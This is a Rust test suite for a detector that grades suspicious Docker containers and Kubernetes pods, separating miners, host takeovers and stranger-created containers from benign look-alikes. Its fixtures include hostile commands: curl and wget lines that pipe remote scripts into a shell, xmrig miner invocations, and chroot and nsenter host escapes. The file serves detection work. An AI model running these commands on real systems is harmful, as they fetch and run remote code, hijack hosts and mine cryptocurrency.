//! Suspicious containers: firing, quiet, and the benign container that looks alike.

#![allow(clippy::indexing_slicing, reason = "a test may fail loudly")]

mod estate;

use coldcase_correlate::{Indicator, IndicatorType};
use coldcase_model::{Severity, action};
use estate::{
    DAY, Row, about, container, creates, facts, old_estate, process, request, row, run, run_with,
    severity, strings,
};
use serde_json::{Value, json};

const ID: &str = "7bca04455c664ed1660cd583b4858f96f4cb3dce628dd5e51c75c28d36d8c081";
const ONLY: &[&str] = &["suspicious-container"];
const OUTSIDER: &str = "198.51.100.77";

fn with_estate(more: Vec<Row>) -> Vec<Row> {
    [old_estate(), more].concat()
}

/// A container of today in an old estate.
fn today(image: &str, command: &str, more: Value) -> Vec<Row> {
    with_estate(container("x", ID, image, command, 0, more))
}

#[test]
fn a_container_is_weighed() {
    let none = || json!({});
    let root = || json!({"mounts": ["/:/mnt"]});
    let table: &[(&str, &str, &str, Value, Option<Severity>)] = &[
        (
            "miner in the command",
            "heybb/theimg2",
            "/xmrig -o stratum+tcp://p:3333",
            none(),
            Some(Severity::High),
        ),
        (
            "unknown image alone is low",
            "heybb/theimg2:1",
            "sh /mac.sh",
            none(),
            Some(Severity::Low),
        ),
        (
            "without a tag too",
            "heybb/theimg2",
            "sh /mac.sh",
            none(),
            Some(Severity::Medium),
        ),
        (
            "the host taken over",
            "busybox:latest",
            "chroot /mnt /bin/sh -c curl -fsSL http://203.0.113.150/d/a.sh | sh",
            root(),
            Some(Severity::High),
        ),
        (
            "an admin looks around",
            "ubuntu:20.04",
            "chroot /mnt bash",
            root(),
            Some(Severity::Medium),
        ),
        (
            "official image of today",
            "postgres:13",
            "postgres",
            none(),
            None,
        ),
        (
            "own image of today",
            "registry.corp/app:1.4",
            "java -jar /app.jar",
            none(),
            None,
        ),
        (
            "new version of an own image",
            "registry.corp/etl:2.8",
            "/app/run",
            none(),
            None,
        ),
        (
            "a build that installs a tool",
            "registry.corp/ci:1",
            "sh -c 'curl -fsSL https://get.example/helm | bash'",
            json!({"mounts": ["/var/run/docker.sock:/var/run/docker.sock"], "privileged": true}),
            Some(Severity::Medium),
        ),
        (
            "docker in docker",
            "docker:dind",
            "dockerd",
            json!({"privileged": true, "pid_mode": "host"}),
            Some(Severity::Info),
        ),
        (
            "node exporter",
            "prom/node-exporter:v1.1.2",
            "/bin/node_exporter --path.rootfs=/host",
            json!({"privileged": true, "pid_mode": "host", "mounts": ["/:/host:ro", "/proc:/host/proc:ro"]}),
            Some(Severity::Info),
        ),
        (
            "its name on another's image",
            "prom1/node-exporter:v1.1.2",
            "/bin/node_exporter",
            json!({"privileged": true, "pid_mode": "host", "mounts": ["/:/host"]}),
            Some(Severity::Medium),
        ),
        (
            "its image with a miner",
            "prom/node-exporter:v1.1.2",
            "/tmp/xmrig --donate-level=1",
            json!({"privileged": true}),
            Some(Severity::High),
        ),
        (
            "portainer",
            "portainer/portainer-ce:2.1.1",
            "/portainer",
            json!({"mounts": ["/var/run/docker.sock:/var/run/docker.sock"]}),
            None,
        ),
        (
            "data of a service",
            "mysql:8",
            "mysqld",
            json!({"mounts": ["/data/mysql:/var/lib/mysql", "/etc/localtime:/etc/localtime:ro"]}),
            None,
        ),
        (
            "somebody looks for miners",
            "alpine:3",
            "sh -c 'ps aux | grep xmrig'",
            json!({"pid_mode": "host"}),
            None,
        ),
    ];
    for (name, image, command, more, expected) in table {
        let found = run(&today(image, command, more.clone()), ONLY);
        assert_eq!(
            severity(&found, "x"),
            *expected,
            "{name}: {:?}",
            found.findings
        );
    }
}

#[test]
fn the_facts_are_those_of_the_evidence() {
    let found = run(
        &today("heybb/theimg2", "/xmrig -o stratum+tcp://p:3333", json!({})),
        ONLY,
    );
    let finding = about(&found, "x").expect("stated");
    assert_eq!(finding.facts["container"], "x");
    assert_eq!(finding.facts["image"], "heybb/theimg2");
    assert_eq!(finding.facts["command"], "/xmrig -o stratum+tcp://p:3333");
    assert_eq!(
        strings(finding, "reasons"),
        [
            "unofficial-image",
            "untagged-image",
            "new-image",
            "miner-command"
        ]
    );
    assert_eq!(finding.facts["created_by"], Value::Null);
    assert!(!finding.evidence.is_empty() && finding.evidence.len() <= 20);
}

#[test]
fn an_image_that_the_estate_uses_is_its_own() {
    let of_day = |day: i64| {
        let older = container(
            "older",
            "0123456789ab",
            "acme/tool:1",
            "/run",
            day * DAY,
            json!({}),
        );
        run(
            &[today("acme/tool:2", "/run", json!({})), older].concat(),
            ONLY,
        )
    };
    assert_eq!(severity(&of_day(-8), "x"), None);
    assert_eq!(severity(&of_day(-1), "x"), Some(Severity::Low));
}

#[test]
fn nothing_is_new_where_all_is() {
    let young = |number: i64| {
        container(
            &format!("job-{number}"),
            &format!("{number:012x}"),
            "acme/ci:5",
            "/run",
            -600 * number,
            json!({}),
        )
    };
    let rows: Vec<Row> = (1..20)
        .flat_map(young)
        .chain(container("x", ID, "other/ci:1", "/run", 0, json!({})))
        .collect();
    assert_eq!(run(&rows, ONLY).findings.len(), 0);
}

#[test]
fn who_asked_for_it_decides() {
    let made_by = |from: &str, image: &str, more: Value| {
        let mut rows = today(image, "/run", more);
        // Somebody reads long before, so that the capture is known to have watched.
        rows.push(request(
            -5 * 3600,
            "10.8.0.5",
            estate::INNER,
            "GET",
            "/v1.24/containers/json",
        ));
        rows.push(creates(0, from, ID, image, "/run"));
        run(&rows, ONLY)
    };
    let check = |name: &str, from: &str, image: &str, more: Value, expected: Option<Severity>| {
        let found = made_by(from, image, more);
        assert_eq!(
            severity(&found, "x"),
            expected,
            "{name}: {:?}",
            found.findings
        );
    };
    let root = json!({"mounts": ["/:/mnt"]});
    check(
        "a stranger, an unknown image",
        OUTSIDER,
        "zoolu/ubuntu:latest",
        json!({}),
        Some(Severity::High),
    );
    check(
        "a stranger, power over the host",
        OUTSIDER,
        "alpine:3",
        root.clone(),
        Some(Severity::High),
    );
    check(
        "a stranger, nothing else",
        OUTSIDER,
        "registry.corp/app:1",
        json!({}),
        Some(Severity::Medium),
    );
    check(
        "a new caller from inside",
        "10.8.0.99",
        "registry.corp/app:1",
        json!({}),
        None,
    );
    check(
        "a new caller from inside with power",
        "10.8.0.99",
        "alpine:3",
        root,
        Some(Severity::Medium),
    );
    let found = made_by(OUTSIDER, "zoolu/ubuntu:latest", json!({}));
    let finding = about(&found, "x").expect("stated");
    assert_eq!(finding.facts["created_by"], OUTSIDER);
    assert!(strings(finding, "reasons").contains(&"remote-created".to_owned()));
}

#[test]
fn a_runner_that_makes_containers_all_day_is_no_stranger() {
    let mut rows = old_estate();
    for number in 0..40_i64 {
        let id = format!("{number:064x}").replace('0', "a");
        let at = number * 300;
        rows.extend(container(
            &format!("runner-{number}"),
            &id,
            "registry.corp/ci:4",
            "sh -c make",
            at,
            json!({"mounts": ["/var/run/docker.sock:/var/run/docker.sock"]}),
        ));
        rows.push(creates(
            at,
            "10.8.0.20",
            &id,
            "registry.corp/ci:4",
            "sh -c make",
        ));
    }
    assert_eq!(run(&rows, ONLY).findings.len(), 0);
}

#[test]
fn a_miner_is_found_behind_an_innocent_command() {
    let miner = "/bin/mac -o stratum+tcp://203.0.113.77:5555 -k --donate-level=1";
    let base = || today("heybb/theimg2:1", "sh /mac.sh", json!({"pid": 10_293}));
    let reasons = |rows: Vec<Row>| {
        let found = run(&rows, ONLY);
        about(&found, "x").map(|one| {
            (
                one.severity,
                strings(one, "reasons").contains(&"miner-command".to_owned()),
            )
        })
    };
    let with = |more: Vec<Row>| reasons([base(), more].concat());
    let yes = Some((Severity::High, true));
    let no = Some((Severity::Low, false));
    assert_eq!(
        with(vec![
            process(10_293, "sh /mac.sh", 0.0, 0),
            process(10_294, miner, 97.8, 0)
        ]),
        yes,
        "the next pid"
    );
    let child =
        |pid: i64, ppid: i64| process(pid, miner, 97.8, 0).with(|event| event.ppid = Some(ppid));
    assert_eq!(with(vec![child(20_000, 10_293)]), yes, "its child");
    assert_eq!(with(vec![child(20_000, 1)]), no, "another's child");
    assert_eq!(
        with(vec![process(10_294, miner, 97.8, 7_200)]),
        no,
        "started hours later"
    );
    assert_eq!(
        with(vec![process(10_400, miner, 97.8, 0)]),
        no,
        "a pid far away"
    );
    let script = |line: &str| {
        row(action::SCRIPT_COMMAND, "script", None, json!({})).with(|event| {
            event.path = Some("srv/mac.sh".into());
            event.command = Some(line.to_owned().into());
        })
    };
    assert_eq!(with(vec![script(miner)]), yes, "the script that it runs");
    assert_eq!(
        with(vec![script("/bin/app --serve")]),
        no,
        "an innocent script"
    );
}

#[test]
fn an_indicator_in_the_command_counts() {
    let bad = Indicator {
        kind: IndicatorType::Ip,
        value: "203.0.113.9".into(),
    };
    let rows = today("acme/x:1", "/run --peer 203.0.113.9:443", json!({}));
    assert_eq!(severity(&run(&rows, ONLY), "x"), Some(Severity::Low));
    assert_eq!(
        severity(&run_with(&rows, &facts(vec![bad]), ONLY), "x"),
        Some(Severity::High)
    );
}

#[test]
fn sources_of_one_container_are_one_finding() {
    let mut rows = today("heybb/theimg2", "/xmrig", json!({}));
    // The engine's table: a short id, a cut command.
    rows.push(
        row(
            action::CONTAINER_LISTED,
            "docker-ps",
            Some(6 * 3600),
            json!({"id": &ID[..12], "age_seconds": 21_600, "age_unit_seconds": 3_600}),
        )
        .with(|event| {
            event.container = Some("x".into());
            event.image = Some("heybb/theimg2".into());
            event.command = Some("/xm…".into());
        }),
    );
    rows.push(creates(0, OUTSIDER, ID, "heybb/theimg2", "/xmrig"));
    let found = run(&rows, ONLY);
    assert_eq!(found.findings.len(), 1, "{:?}", found.findings);
    assert_eq!(found.findings[0].facts["command"], "/xmrig");
    assert_eq!(found.findings[0].facts["id"], ID);
}

#[test]
fn the_order_of_rows_does_not_matter() {
    let mut rows = today("heybb/theimg2", "/xmrig", json!({}));
    rows.push(creates(0, OUTSIDER, ID, "heybb/theimg2", "/xmrig"));
    let forward = run(&rows, ONLY);
    rows.reverse();
    let backward = run(&rows, ONLY);
    let facts = |found: &coldcase_model::Findings| {
        serde_json::to_string(&found.findings[0].facts).expect("JSON")
    };
    assert_eq!(facts(&forward), facts(&backward));
}

#[test]
fn a_container_that_is_gone_is_told_by_the_request() {
    let mut rows = old_estate();
    rows.push(creates(
        0,
        OUTSIDER,
        ID,
        "zoolu/ubuntu",
        "sh -c 'wget -qO- http://203.0.113.5/x | sh'",
    ));
    let found = run(&rows, ONLY);
    assert_eq!(
        severity(&found, &ID[..12]),
        Some(Severity::High),
        "{:?}",
        found.findings
    );
}

#[test]
fn pods_of_the_audit_log_are_weighed() {
    let pod = |user: &'static str, request: Value| {
        let told = json!({"verb": "create", "resource": "pods", "name": "p", "request": request});
        row(action::API_REQUEST, "k8s-audit", Some(0), told).with(|event| {
            event.user = Some(user.into());
            event.src_ip = Some(OUTSIDER.into());
            event.pod = Some("p".into());
            event.namespace = Some("default".into());
            event.image = Some("alpine:3".into());
            event.outcome = Some("success");
        })
    };
    let takes_host = json!({"images": ["alpine:3"], "host_paths": ["/"], "privileged": true, "host_pid": true, "commands": ["nsenter -t 1 -m sh"]});
    assert_eq!(
        severity(
            &run(&[pod("system:anonymous", takes_host.clone())], ONLY),
            "default/p"
        ),
        Some(Severity::High)
    );
    assert_eq!(
        severity(&run(&[pod("jo", takes_host.clone())], ONLY), "default/p"),
        Some(Severity::Medium)
    );
    assert_eq!(
        severity(
            &run(
                &[pod(
                    "system:serviceaccount:kube-system:daemon-set-controller",
                    takes_host
                )],
                ONLY
            ),
            "default/p"
        ),
        None
    );
    assert_eq!(
        severity(
            &run(&[pod("jo", json!({"images": ["alpine:3"]}))], ONLY),
            "default/p"
        ),
        None
    );
}
